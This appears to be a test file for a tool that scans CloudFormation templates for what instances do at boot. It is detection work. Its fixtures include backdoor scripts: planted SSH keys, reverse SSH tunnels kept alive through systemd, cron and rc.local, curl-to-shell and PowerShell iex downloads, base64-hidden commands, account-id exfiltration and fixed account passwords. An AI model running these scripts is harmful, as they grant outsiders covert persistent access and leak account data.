import test from 'ava';
import {at, gatherTemplate} from '../helpers/template.ts';

const key = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA${'Larkspur'.repeat(5)}`;

const userData = (script: string) =>
	`Parameters: {Key: {Type: String}}\nResources:\n  Host:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n${script.replaceAll(/^/gm, '          ')}\n`;

/** What a template's instances do when they start, each with what stands at its place; a question mark where a condition decides. */
async function doneBy(template: string): Promise<readonly string[]> {
	const {bootstrap} = await gatherTemplate(template);
	const {addedAccess, remoteAccess, sendings, fetches} = bootstrap;
	return [
		...addedAccess.map(({how, sure, place}) => `${how}${sure ? '' : '?'} ${at(template, place).slice(0, 40)}`),
		...remoteAccess.map(({agent, bound, sure}) => `${agent}${sure ? '' : '?'} ${bound ?? ''}`),
		...sendings.map(({to, what}) => `${to}: ${what.join(', ')}`),
		...fetches.filter(({how, address}) => how !== 'install' || address === true).map(({how, what}) => `${how} ${what}`),
	];
}

const does = test.macro({
	async exec(t, script: string, wanted: readonly string[]) {
		t.deepEqual(await doneBy(userData(script)), wanted);
	},
	title: (_, script: string) => script.replaceAll(key, 'KEY').replaceAll('\n', ' ⏎ '),
});

const added = [`key ${key.slice(0, 40)}`];
test(does, `#!/bin/bash\nmkdir -p ~/.ssh && echo '${key}' >> /home/ec2-user/.ssh/authorized_keys`, added);
test(does, `#!/bin/bash\nKEY="${key}"\ncat >> /root/.ssh/authorized_keys <<EOF\n$KEY\nEOF`, added);
test(does, `#!/bin/bash\nsu - admin -c "echo '${key}' | tee -a ~/.ssh/authorized_keys"`, added);
test(does, `#!/bin/bash\nif [ '\${Key}' = yes ]; then echo '${key}' >> ~/.ssh/authorized_keys; fi`, [`key? ${key.slice(0, 40)}`]);
test(does, `#!/bin/bash\nlet_in() { echo '${key}' >> ~/.ssh/authorized_keys; }\nlet_in`, added);
test(does, `#!/bin/bash\nlet_in() { echo '${key}' >> ~/.ssh/authorized_keys; }\n[ -n "\${Key}" ] && let_in`, [`key? ${key.slice(0, 40)}`]);
test(does, `#!/bin/bash\necho '\${Key}' >> ~/.ssh/authorized_keys`, []);
test(does, `#!/bin/bash\necho '${key}' > /etc/larkspur/release.pub`, []);
test(does, `#!/bin/bash\ngrep -q '${key}' ~/.ssh/authorized_keys`, []);
test(does, `#cloud-config\nusers:\n  - name: larkspur\n    ssh_authorized_keys: ['${key}']`, added);
test(does, '#!/bin/bash\ncurl -fsSLo ~/.ssh/authorized_keys https://keys.larkspur-queue.com/k', [
	'download https://keys.larkspur-queue.com/k',
	'download https://keys.larkspur-queue.com/k',
]);
test(does, '#cloud-config\nssh_import_id: [gh:larkspur]', ['import gh:larkspur']);
test(does, `#cloud-config\nssh_authorized_keys: ['\${Key}']`, []);
test(does, `#cloud-config\nwrite_files:\n  - path: /root/.ssh/authorized_keys\n    content: |\n      ${key}`, added);
test(does, "#cloud-config\nruncmd:\n  - [sh, -c, 'curl -fsSL https://get.larkspur-queue.com/x | sh']", ['run https://get.larkspur-queue.com/x']);
test(does, "#cloud-config\nruncmd:\n  - [sh, -c, \"curl -fsSL 'https://get.larkspur-queue.com/x?a=1&b=2' | sh; echo don't\"]", [
	'run https://get.larkspur-queue.com/x?a=1&b=2',
]);
test(does, `#cloud-config\nbootcmd:\n  - [sh, -c, "echo '${key}' >> ~/.ssh/authorized_keys"]`, added);
test(does, `#include\nhttps://get.larkspur-queue.com/x?a='1'&b=2`, ["run https://get.larkspur-queue.com/x?a='1'&b=2"]);
test(does, `#!/bin/bash\ncat > /opt/call.sh <<'EOF'\n#!/bin/sh\nssh -N -R 0:localhost:22 x@care.larkspur-queue.com\nEOF\nbash /opt/call.sh`, [
	'ssh -R care.larkspur-queue.com',
]);
test(does, '#!/bin/bash\nssh -N -L 5432:db:5432 x@care.larkspur-queue.com', []);
test(does, '#!/bin/bash\nssh -N -R 0:localhost:22 x@10.0.0.4', []);
test(does, '#!/bin/bash\ncurl -d "account=${AWS::AccountId}&host=$(hostname)&region=${AWS::Region}" https://hello.larkspur-queue.com/v1', [
	'hello.larkspur-queue.com: AWS account id, host name',
]);
test(does, '#!/bin/bash\ncurl -X PUT -d "{}" "${Key}"', []);
test(
	does,
	`<powershell>\nInvoke-WebRequest -Uri https://get.larkspur-queue.com/x.msi -OutFile C:\\x.msi\nStart-Process msiexec -ArgumentList '/i C:\\x.msi'\n</powershell>`,
	['run https://get.larkspur-queue.com/x.msi'],
);

// Packages by their address, and sources of packages that scripts add.
test(does, '#!/bin/bash\ndnf install -y https://rpm.larkspur-queue.com/queue-4.1.x86_64.rpm', ['install https://rpm.larkspur-queue.com/queue-4.1.x86_64.rpm']);
test(does, '#!/bin/bash\nrpm -Uvh https://rpm.larkspur-queue.com/queue.rpm', ['install https://rpm.larkspur-queue.com/queue.rpm']);
test(does, '#!/bin/bash\npython3 -m pip install https://dl.larkspur-queue.com/queue.whl', ['install https://dl.larkspur-queue.com/queue.whl']);
test(does, '#!/bin/bash\npip3 install --extra-index-url=https://pypi.larkspur-queue.com/simple queue', ['install https://pypi.larkspur-queue.com/simple']);
test(does, '#!/bin/bash\npip3 install --proxy https://proxy.larkspur-queue.com queue', []);
test(does, '#!/bin/bash\nnpm install --registry https://npm.larkspur-queue.com queue', ['install https://npm.larkspur-queue.com']);
test(does, '#!/bin/bash\nkubectl apply -f https://dl.larkspur-queue.com/queue.yaml', ['install https://dl.larkspur-queue.com/queue.yaml']);
test(does, '#!/bin/bash\nyum install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm', []);
test(does, '#!/bin/bash\nyum install -y https://s3.${AWS::Region}.amazonaws.com/amazon-ssm-${AWS::Region}/latest/linux_amd64/amazon-ssm-agent.rpm', []);
test(does, '#!/bin/bash\nyum install -y https://larkspur.s3.${AWS::Region}.amazonaws.com/queue.rpm', ['install https://larkspur.s3.….amazonaws.com/queue.rpm']);
test(does, '#!/bin/bash\nyum install -y https://${Key}.s3.amazonaws.com/queue.rpm', []);
test(does, "#!/bin/bash\ncat > /etc/yum.repos.d/l.repo <<'R'\n[l]\nbaseurl=https://rpm.larkspur-queue.com/el9\nR\nyum -y install queue", [
	'source https://rpm.larkspur-queue.com/el9',
]);
test(does, "#!/bin/bash\ncat > /etc/yum.repos.d/l.repo <<'R'\n[l]\nbaseurl=https://rpm.larkspur-queue.com/el9\nR\n", []);
test(
	does,
	'#!/bin/bash\necho "deb [signed-by=/k.gpg] https://apt.larkspur-queue.com stable main" | tee /etc/apt/sources.list.d/l.list\napt-get install -y queue',
	['source https://apt.larkspur-queue.com'],
);
test(does, '#!/bin/bash\necho "deb https://archive.ubuntu.com/ubuntu noble universe" >> /etc/apt/sources.list\napt-get install -y queue', []);
test(does, '#!/bin/bash\nadd-apt-repository -y ppa:larkspur/queue && apt install -y queue', ['source ppa:larkspur/queue']);
test(does, '#!/bin/bash\nyum-config-manager --add-repo https://rpm.larkspur-queue.com/l.repo\nyum install -y queue', [
	'source https://rpm.larkspur-queue.com/l.repo',
]);
test(does, '#!/bin/bash\nhelm repo add larkspur https://charts.larkspur-queue.com\nhelm upgrade --install queue larkspur/queue', [
	'source https://charts.larkspur-queue.com',
]);
test(does, '#!/bin/bash\ndocker run -d --pull always -p 80:80 registry.larkspur-queue.com/queue:4 serve', ['image registry.larkspur-queue.com/queue:4']);
test(does, '#!/bin/bash\ndocker run -d registry.larkspur-queue.com/queue:4', []);
test(does, "#!/bin/bash\npython3 - <<'P'\nimport urllib.request\nurllib.request.urlretrieve('https://dl.larkspur-queue.com/q.tgz', '/q')\nP", [
	'download https://dl.larkspur-queue.com/q.tgz',
]);
test(does, "#!/usr/bin/env python3\nURL = 'https://dl.larkspur-queue.com/q.tgz'\nwith open('/q', 'wb') as q:\n    q.write(requests.get(URL).content)", [
	'download https://dl.larkspur-queue.com/q.tgz',
]);
test(does, '#!/bin/bash\npython3 -c "print(requests.get(\'https://api.larkspur-queue.com/v1/time\').text)"', []);
test(does, '#include\nhttps://boot.larkspur-queue.com/init.txt', ['run https://boot.larkspur-queue.com/init.txt']);
test(does, "#cloud-config\nyum_repos:\n  l: {baseurl: 'https://rpm.larkspur-queue.com/el9'}\npackages: [queue]", ['source https://rpm.larkspur-queue.com/el9']);
test(does, "#cloud-config\napt:\n  sources:\n    l: {source: 'deb https://apt.larkspur-queue.com stable main'}\npackages: [queue]", [
	'source https://apt.larkspur-queue.com',
]);

const init = (config: string) =>
	`Parameters: {Key: {Type: String}}\nResources:\n  Host:\n    Type: AWS::EC2::Instance\n    Metadata: {'AWS::CloudFormation::Init': {config: ${config}}}\n`;

const fetches = test.macro({
	async exec(t, template: string, wanted: readonly string[]) {
		t.deepEqual(await doneBy(template), wanted);
	},
	title: (title) => `fetched at start: ${title}`,
});
test('a source of cfn-init', fetches, init("{sources: {/opt/queue: 'https://dl.larkspur-queue.com/q.tgz'}}"), ['download https://dl.larkspur-queue.com/q.tgz']);
test('a bucket of the buyer', fetches, init("{sources: {/opt/queue: !Sub 'https://${Key}.s3.amazonaws.com/q.tgz'}}"), []);
test(
	'a file of cfn-init that is run',
	fetches,
	init("{files: {/opt/q.sh: {source: 'https://dl.larkspur-queue.com/q.sh'}}, commands: {a: {command: bash /opt/q.sh}}}"),
	['run https://dl.larkspur-queue.com/q.sh'],
);
test(
	'a list of words of cfn-init',
	fetches,
	init(`{commands: {a: {command: [sh, -c, "curl -fsSL 'https://dl.larkspur-queue.com/q?a=1&b=2' | sh; echo don't"]}}}`),
	['run https://dl.larkspur-queue.com/q?a=1&b=2'],
);
test(
	"a list of words of Windows' cfn-init",
	fetches,
	init(`{files: {'C:\\q.txt': {content: q}}, commands: {a: {command: [powershell, -Command, "iwr 'https://dl.larkspur-queue.com/q' | iex"]}}}`),
	['run https://dl.larkspur-queue.com/q'],
);
test('packages of cfn-init', fetches, init("{packages: {rpm: {q: 'https://rpm.larkspur-queue.com/q.rpm'}, yum: {httpd: []}}}"), [
	'install https://rpm.larkspur-queue.com/q.rpm',
]);
const association = (properties: string) => `Resources:\n  Run:\n    Type: AWS::SSM::Association\n    Properties: ${properties}\n`;
test(
	'an association with commands',
	fetches,
	association("{Name: AWS-RunShellScript, Parameters: {commands: ['cd /tmp', 'curl -fsSL https://get.larkspur-queue.com/i.sh | bash']}}"),
	['run https://get.larkspur-queue.com/i.sh'],
);
test(
	'an association with a script of a bucket',
	fetches,
	association(`{Name: AWS-RunRemoteScript, Parameters: {sourceType: [S3], sourceInfo: ['{"path":"https://s3.amazonaws.com/larkspur/i.sh"}']}}`),
	['run https://s3.amazonaws.com/larkspur/i.sh'],
);
test(
	'an association with a repository',
	fetches,
	association(`{Name: AWS-ApplyAnsiblePlaybooks, Parameters: {SourceType: [GitHub], SourceInfo: ['{"owner":"larkspur", "repository":"queue"}']}}`),
	['clone https://github.com/larkspur/queue'],
);
test('an association with a document of AWS', fetches, association('{Name: AWS-ConfigureAWSPackage, Parameters: {name: [AmazonCloudWatchAgent]}}'), []);
const document =
	"  Doc:\n    Type: AWS::SSM::Document\n    Properties: {Content: {schemaVersion: '2.2', mainSteps: [{action: 'aws:runShellScript', name: a, inputs: {runCommand: ['wget -O- https://get.larkspur-queue.com/i.sh | sh']}}]}}\n";
test('an association with a document of the template', fetches, `${association('{Name: !Ref Doc}')}${document}`, ['run https://get.larkspur-queue.com/i.sh']);
test('a document that nothing runs', fetches, `Resources:\n${document}`, []);

test('an Fn::If about a script leaves it to the buyer', async (t) => {
	const script = `#!/bin/bash\necho '${key}' >> /root/.ssh/authorized_keys\n`;
	const template = {Resources: {Host: {Type: 'AWS::EC2::Instance', Properties: {UserData: {'Fn::Base64': {'Fn::If': ['Support', script, '#!/bin/sh\n']}}}}}};
	t.deepEqual(await doneBy(JSON.stringify(template, undefined, 1)), [`key? ${key.slice(0, 40)}`]);
});

// Units, crontabs and scripts that something else starts, as scripts and cloud-config write them.
const link = 'ssh -N -R 0:localhost:22 x@care.larkspur-queue.com';
const found = ['ssh -R care.larkspur-queue.com'];
const perhaps = ['ssh -R? care.larkspur-queue.com'];
const writes = (path: string, text: string, rest = '') => `#!/bin/bash\ncat > ${path} <<'EOF'\n${text}\nEOF\n${rest}`;
const linkService = '/etc/systemd/system/link.service';
const execLink = `[Service]\nExecStart=/usr/bin/${link}\n`;
test(does, writes(linkService, execLink, 'systemctl enable --now link'), found);
test(does, writes(linkService, execLink, 'ln -s ../link.service /etc/systemd/system/multi-user.target.wants/link.service'), found);
test(does, writes('/opt/link.service', execLink, 'cp /opt/link.service /etc/systemd/system/\nsystemctl start link.service'), found);
test(does, writes('/opt/link.service', execLink, 'install -m 644 /opt/link.service /etc/systemd/system/care.service && systemctl enable care'), found);
test(does, writes('/opt/link.service', execLink, 'systemctl enable /opt/link.service'), found);
test(does, writes(linkService, execLink), perhaps);
test(does, writes(linkService, execLink, 'systemctl disable link'), []);
test(does, writes(linkService, execLink, 'chkconfig --level 35 link on'), found);
test(does, writes(linkService, execLink, 'update-rc.d link defaults'), found);
test(does, writes(linkService, execLink, 'chkconfig link off'), []);
test(does, writes(linkService, execLink, "if [ '${Key}' = yes ]; then systemctl enable link; fi"), perhaps);
test(does, writes('/etc/systemd/system/link.service.d/care.conf', execLink), perhaps);
test(does, writes('/etc/systemd/system/link.service.d/care.conf', execLink, 'systemctl restart link'), found);
test(does, writes(linkService, `[Service]\nExecStart=/usr/bin/${link}\nExecStart=\nExecStart=/bin/true`, 'systemctl enable link'), []);
test(
	does,
	writes('/etc/systemd/system/link@.service', '[Service]\nExecStart=/usr/bin/ssh -NR 22:localhost:22 %i', 'systemctl enable link@care.larkspur-queue.com'),
	['ssh -R care.larkspur-queue.com'],
);
test(
	does,
	`${writes(linkService, execLink)}echo '[Timer]' > /etc/systemd/system/daily.timer\necho 'Unit=link.service' >> /etc/systemd/system/daily.timer\nsystemctl enable daily.timer`,
	found,
);
test(does, `#!/bin/bash\nprintf '[Service]\\nExecStart=/usr/bin/${link}\\n' | sudo tee ${linkService}\nsudo systemctl enable link`, found);
test(does, `#!/bin/bash\necho '@reboot root ${link}' > /etc/cron.d/link`, found);
test(does, `#!/bin/bash\n(crontab -l 2>/dev/null; echo "@reboot ${link}") | crontab -`, found);
test(does, `#!/bin/bash\ncrontab -u ec2-user - <<EOF\n# care\n*/5 * * * * ${link}\nEOF`, found);
test(does, `#!/bin/bash\necho '@reboot ${link}' > /tmp/table\ncrontab /tmp/table`, found);
test(does, `#!/bin/bash\necho '# @reboot root ${link}' >> /etc/crontab`, []);
test(does, `#!/bin/bash\necho '${link} &' >> /etc/rc.local`, found);
test(does, `#!/bin/bash\nif [ -n "$A" ]; then\n  echo '${link}' > /etc/rc.local\nelse\n  echo true > /etc/rc.local\nfi`, perhaps);
test(does, writes('/etc/cron.hourly/link', `#!/bin/sh\n${link}`, 'chmod +x /etc/cron.hourly/link'), found);
test(does, `#!/bin/bash\necho '${link}' > /usr/share/doc/link.txt`, []);
test(
	does,
	`#cloud-config\nwrite_files:\n  - path: ${linkService}\n    content: |\n      [Service]\n      ExecStart=/usr/bin/${link}\nruncmd:\n  - systemctl enable link`,
	found,
);
test(does, `#cloud-config\nwrite_files:\n  - path: /etc/crontab\n    append: true\n    content: |\n      @daily root ${link}\n`, found);
test(does, writes(linkService, '[Service]\nExecStartPre=/usr/bin/curl -o /opt/x https://get.larkspur-queue.com/x\nExecStart=/opt/x', 'systemctl start link'), [
	'run https://get.larkspur-queue.com/x',
]);
test(does, writes('/etc/cron.d/beat', '*/5 * * * * root curl -d "account=${AWS::AccountId}" https://hello.larkspur-queue.com/v1'), [
	'hello.larkspur-queue.com: AWS account id',
]);

test('a unit of AWS::CloudFormation::Init starts by its services', async (t) => {
	const config = (enabled: string) => ({
		files: {[linkService]: {content: execLink}},
		services: {systemd: {link: {enabled}}},
	});
	const template = (enabled: string) =>
		JSON.stringify({Resources: {Host: {Type: 'AWS::EC2::Instance', Metadata: {'AWS::CloudFormation::Init': {config: config(enabled)}}}}}, undefined, 1);
	t.deepEqual(await doneBy(template('true')), found);
	t.deepEqual(await doneBy(template('false')), perhaps);
});

test('the same path of two hosts is two files', async (t) => {
	const host = (command: string) => ({Type: 'AWS::EC2::Instance', Properties: {UserData: {'Fn::Base64': writes('/etc/cron.d/x', `@daily root ${command}`)}}});
	t.deepEqual(await doneBy(JSON.stringify({Resources: {A: host(link), B: host('true')}}, undefined, 1)), found);
});

test('what a unit runs is told by its name, at its own place', async (t) => {
	const template = userData(writes(linkService, execLink, 'systemctl enable link'));
	const {bootstrap} = await gatherTemplate(template);
	t.deepEqual(
		bootstrap.remoteAccess.map(({job, place}) => [job.name, job.by, at(template, place)]),
		[['link.service of Host', 'Host', 'x@care.larkspur-queue.com']],
	);
});

// Passwords of accounts of the operating system.
const gives = test.macro({
	async exec(t, script: string, wanted: readonly string[]) {
		const {bootstrap} = await gatherTemplate(userData(script));
		t.deepEqual(
			bootstrap.accountPasswords.map(({account, origin, sure, kept, barred}) =>
				[account, origin, ...(sure ? [] : ['perhaps']), ...(kept ? [] : ['unkept']), ...(barred === undefined ? [] : [barred])].join(', '),
			),
			wanted,
		);
	},
	title: (_, script: string) => `account: ${script.replaceAll('\n', ' ⏎ ')}`,
});
test(gives, '#!/bin/bash\necho "ops:${Key}" | sudo chpasswd', ['account ops, unknown']);
test(gives, '#!/bin/bash\nchpasswd <<< "${Key}:${Key}"', ['an account, unknown']);
test(gives, "#!/bin/bash\nchpasswd <<'EOF'\na:letmein1\nb:letmein2\nEOF", ['account a, fixed', 'account b, fixed']);
test(gives, '#!/bin/bash\nchpasswd < /opt/larkspur/accounts', ['an account, unknown']);
test(gives, '#!/bin/bash\nchpasswd -e <<< "ops:!"', []);
test(gives, '#!/bin/bash\nWORD=$(openssl rand -hex 12)\necho "ops:$WORD" | chpasswd\naws secretsmanager create-secret --name x --secret-string "$WORD"', [
	'account ops, random',
]);
test(gives, '#!/bin/bash\nWORD=$(openssl rand -hex 12)\nX=$(curl -d "$WORD" https://${Key}/)\necho "ops:$WORD" | chpasswd', ['account ops, random']);
test(gives, '#!/bin/bash\nWORD=$(openssl rand -hex 12 | tee /root/word)\necho "ops:$WORD" | chpasswd', ['account ops, random']);
test(gives, '#!/bin/bash\nWORD=$(openssl rand -hex 12)\nusermod -p "$(echo "$WORD" | openssl passwd -6 -stdin)" ops', ['account ops, random, unkept']);
test(gives, '#!/bin/bash\necho "${Key}" | passwd --stdin ops', ['account ops, unknown']);
test(gives, "#!/bin/bash\n(echo '${Key}'; echo '${Key}') | passwd ops", ['account ops, unknown']);
test(gives, '#!/bin/bash\nuseradd -m -p "${Key}" ops', ['account ops, unknown']);
test(gives, '#!/bin/bash\npasswd -d ops', ['account ops, empty']);
test(gives, '#!/bin/bash\nif [ -n "${Key}" ]; then echo "ops:${Key}" | chpasswd; fi', ['account ops, unknown, perhaps']);
test(gives, '#!/bin/bash\necho "ops:${Key}" | chpasswd\nusermod -L ops', []);
test(gives, '#!/bin/bash\nusermod -L ops\necho "ops:${Key}" | chpasswd', ['account ops, unknown']);
test(gives, '#!/bin/bash\nuseradd -s /sbin/nologin files\necho "files:${Key}" | chpasswd', ['account files, unknown, shell']);
test(gives, '#!/bin/bash\necho "ops:${Key}" | chpasswd\nusermod ops -L -c locked', []);
test(gives, '#!/bin/bash\necho "ops:${Key}" | chpasswd\nusermod ops -aLG wheel', []);
test(gives, '#!/bin/bash\necho "ops:${Key}" | chpasswd\nusermod ops -c -L', ['account ops, unknown']);
test(gives, '#!/bin/bash\necho "ops:${Key}" | chpasswd\npasswd ops -l', []);
test(gives, '#!/bin/bash\nuseradd files -Ms /sbin/nologin -g www\necho "files:${Key}" | chpasswd', ['account files, unknown, shell']);
test(gives, '#!/bin/bash\nuseradd -s /bin/bash ops -p Larkspur99', ['account ops, fixed']);
test(gives, '#!/bin/bash\necho "ops:${Key}" | chpasswd\nusermod -L ops\nusermod --unlock ops', ['account ops, unknown']);
test(gives, '#!/bin/bash\necho "ops:${Key}" | chpasswd\npasswd -l ops\nif true; then passwd -u ops; fi', ['account ops, unknown']);
test(gives, '#!/bin/bash\nuseradd -s /sbin/nologin files\necho "files:${Key}" | chpasswd\nchsh files -s /bin/bash', ['account files, unknown']);
test(gives, "#!/bin/bash\nsed -i 's/.*PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config\necho 'ops:${Key}' | chpasswd", [
	'account ops, unknown, sshd',
]);
test(gives, "#!/bin/bash\nsed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config\necho 'ops:${Key}' | chpasswd", [
	'account ops, unknown',
]);
test(gives, "#!/bin/bash\ngrep -q 'PasswordAuthentication no' /etc/ssh/sshd_config\necho 'ops:${Key}' | chpasswd", ['account ops, unknown']);
test(gives, '#!/bin/bash\ncat > /etc/cron.d/x <<EOF\n@reboot root echo ops:$(uuidgen | tee /root/word) | chpasswd\nEOF', ['account ops, random']);
test(gives, '#!/bin/bash\ndocker exec app sh -c "echo app:${Key} | chpasswd"\nhtpasswd -b /etc/users admin "${Key}"', []);
test(gives, '#!/bin/bash\n# echo "ops:${Key}" | chpasswd', []);
test(gives, '#cloud-config\npassword: ${Key}', ['the default account, unknown']);
test(gives, '#cloud-config\nchpasswd:\n  list:\n    - a:RANDOM\n    - b:${Key}', ['account a, random', 'account b, unknown']);
test(gives, '#cloud-config\nchpasswd:\n  list: |\n    a:R\n    b:letmein1', ['account a, random', 'account b, fixed']);
test(gives, '#cloud-config\nchpasswd:\n  users:\n    - {name: a, type: RANDOM}\n    - {name: b, password: "${Key}", type: text}', [
	'account a, random',
	'account b, unknown',
]);
test(gives, '#cloud-config\nusers:\n  - {name: a, passwd: "${Key}"}\n  - {name: b, hashed_passwd: "${Key}", lock_passwd: false}', ['account b, unknown']);
test(gives, '#cloud-config\nusers:\n  - {name: a, lock_passwd: false}', []);
test(gives, '<powershell>\nNew-LocalUser -Name ops -Password (ConvertTo-SecureString "${Key}" -AsPlainText -Force)\n</powershell>', ['account ops, unknown']);
test(gives, '<script>\nnet user Administrator /active:yes\n</script>', []);

const packed = Buffer.from(execLink).toString('base64');
test(does, `#cloud-config\nwrite_files:\n  - {path: ${linkService}, encoding: b64, content: ${packed}}\nruncmd: [systemctl enable link]`, found);
test(does, `#!/bin/bash\necho ${packed} | base64 -d > ${linkService}\nsystemctl enable link`, found);

test('a key pair of a public key that the template holds', async (t) => {
	const template = (keyName: unknown, material: unknown = key) =>
		JSON.stringify({
			Parameters: {Key: {Type: 'String'}},
			Resources: {
				Pair: {Type: 'AWS::EC2::KeyPair', Properties: {KeyName: 'x', PublicKeyMaterial: material}},
				Host: {Type: 'AWS::EC2::Instance', Properties: {KeyName: keyName}},
			},
		});
	t.deepEqual(await doneBy(template({Ref: 'Pair'})), added);
	t.deepEqual(await doneBy(template({Ref: 'Key'})), [`key? ${key.slice(0, 40)}`]);
	t.deepEqual(await doneBy(template({'Fn::If': ['Support', {Ref: 'Pair'}, {Ref: 'Key'}]})), [`key? ${key.slice(0, 40)}`]);
	t.deepEqual(await doneBy(template({Ref: 'Pair'}, {Ref: 'Key'})), []);
});
test(does, `#!/bin/bash\necho ${Buffer.from(link).toString('base64')} | base64 -d | bash`, found);
